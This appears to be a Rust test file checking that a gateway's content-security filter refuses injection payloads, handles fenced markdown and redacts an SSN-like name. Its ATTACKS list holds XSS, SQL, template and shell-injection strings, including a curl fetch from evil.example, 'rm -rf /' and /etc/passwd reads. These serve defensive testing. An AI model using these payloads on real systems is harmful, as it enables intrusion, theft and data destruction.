//! Layer 3, attack patterns: cases 9-20 to 9-30 of the test catalogue.

use serde_json::json;

use super::{Desk, modes};
use crate::app::App;

/// One canonical attack of each class of the contract, encoded and written in other ways.
const ATTACKS: [(&str, &str, &str); 24] = [
    ("9-20", "xss/", "<script>alert(1)</script>"),
    ("9-20", "xss/", "<img src=x onerror=alert(1)>"),
    ("9-20", "xss/", "<a href=\"javascript:alert(1)\">x</a>"),
    ("9-20", "template/", "{% for x in config %}{{ x }}{% endfor %}"),
    ("9-22", "template/", "Data: {{ config.secret_key }}"),
    ("9-20", "template/", "cost ${7*7}"),
    ("9-20", "command/", "file.txt; cat /etc/passwd"),
    ("9-20", "command/", "x && curl http://evil.example/a -o b"),
    ("9-25", "command/", "x `id`"),
    ("9-20", "sql/", "1 UNION SELECT name, secret FROM users"),
    ("9-24", "sql/", "admin'--"),
    ("9-24", "sql/", "1' OR '1'='1"),
    ("9-24", "sql/", "' UNION/**/SELECT password FROM users"),
    ("9-25", "command/", "name; rm -rf /"),
    ("9-25", "command/", "name $(whoami)"),
    ("9-25", "command/", "a; c''at /etc/passwd"),
    ("9-25", "command/", "cat${IFS}/etc/passwd"),
    ("9-23", "xss/", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("9-23", "xss/", "%253Cscript%253Ealert(1)%253C/script%253E"),
    ("9-23", "xss/", "<scr\0ipt>alert(1)</script>"),
    ("9-23", "xss/", "＜script＞alert(1)＜/script＞"),
    ("9-23", "xss/", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
    ("9-21", "template/", "Hello {{ user.name }}, welcome to {{ company }}!"),
    ("9-28", "xss/nested_tags", ""),
];

const README: &str = "# Install\n\nSelect an option; don't -- really -- drop it (yet).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\
```bash\nmake && make install; echo done\n```\n\nSee the #topic & the notes.\n";

/// An attack in a fence, as documentation shows it.
const FENCED: &str = "Never write this:\n\n```html\n<script>alert(1)</script>\n```\n";

#[tokio::test]
async fn attacks_are_refused_in_strict_and_moderate() {
    for desk in [Desk::open(&[]).await, Desk::open(&modes("moderate")).await] {
        for (number, family, text) in ATTACKS {
            let text = if text.is_empty() { "<a/href=".repeat(12_000) } else { text.to_owned() };
            assert!(desk.refuses(&text, family).await, "{number} {text}");
        }
        let greeting = "Hello {{ user.name }}, welcome to {{ company }}!";
        desk.prompt(greeting).await.expect(200);
        desk.prompt("{{ ''.__class__.__mro__ }}").await.expect(400);
        let name = json!({ "server": { "name": "s", "description": ATTACKS[0].2 } });
        desk.app.post("/v1/servers", &desk.admin, name).await.expect(400);
    }
}

#[tokio::test]
async fn documents_pass_and_only_what_a_renderer_takes_for_code_is_lighter() {
    let (strict, moderate) = (Desk::open(&[]).await, Desk::open(&modes("moderate")).await);
    let status = async |desk: &Desk, mime: &str, text: &str| desk.resource(mime, text).await.status.as_u16();
    assert_eq!(status(&moderate, "text/markdown", README).await, 200, "9-26");
    assert_eq!(status(&strict, "text/markdown", README).await, 200, "9-26");
    assert_eq!(status(&strict, "text/markdown", FENCED).await, 400, "9-27");
    assert_eq!(status(&moderate, "text/markdown", FENCED).await, 200, "9-27");
    assert_eq!(status(&moderate, "text/html", FENCED).await, 400, "9-29");
    assert_eq!(status(&moderate, "text/plain", FENCED).await, 400, "9-29");
    let script = "<script>alert(1)</script>";
    for (text, expected) in [
        (format!("```\n{script}\n"), 200),
        (format!("~~~\n```\n{script}\n~~~\n"), 200),
        (format!("~~~\n```\nx\n~~~\n{script}\n"), 400),
        (format!("- a\n  ```\n  x\n  ```\n\n{script}\n"), 400),
        (format!("> ```\n> x\n\n{script}\n"), 400),
        (format!("````\n```\n````\n{script}\n"), 400),
        (format!("``` a`b\n{script}\n```\n"), 400),
    ] {
        assert_eq!(status(&moderate, "text/markdown", &text).await, expected, "9-28 {text:?}");
    }
}

#[tokio::test]
async fn the_same_is_said_over_every_door() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("mcp.json");
    // Names in the file are letters, digits, blanks, dots and dashes; no more is needed for a number of a person.
    let name = "ssn 536-90-4399";
    let named = json!({ "mcpServers": { name: { "url": "http://127.0.0.1:9/mcp" } } });
    std::fs::write(&file, named.to_string()).unwrap();
    let app = App::with(&[], &["--servers", file.to_str().unwrap()]).await;
    let admin = app.admin();
    let violations = async || app.get("/v1/admin/content-security/violations", &admin).await.expect(200);
    app.until(async || violations().await[0]["violation_type"] == "pii_ssn").await;
    let gateways = app.get("/v1/gateways?include_inactive=true", &admin).await.expect(200);
    assert!(!gateways.to_string().contains("536-90"), "{gateways}");
    let over_file = violations().await[0]["violations"].clone();
    let body = json!({ "name": name, "url": "http://127.0.0.1:9/mcp" });
    let refusal = app.post("/v1/gateways", &admin, body).await.expect(400);
    assert!(refusal.to_string().contains("pii/ssn") && !refusal.to_string().contains("536-90"), "{refusal}");
    let listed = violations().await;
    assert_eq!((listed.as_array().unwrap().len(), &listed[0]["violations"]), (2, &over_file), "{listed}");
}
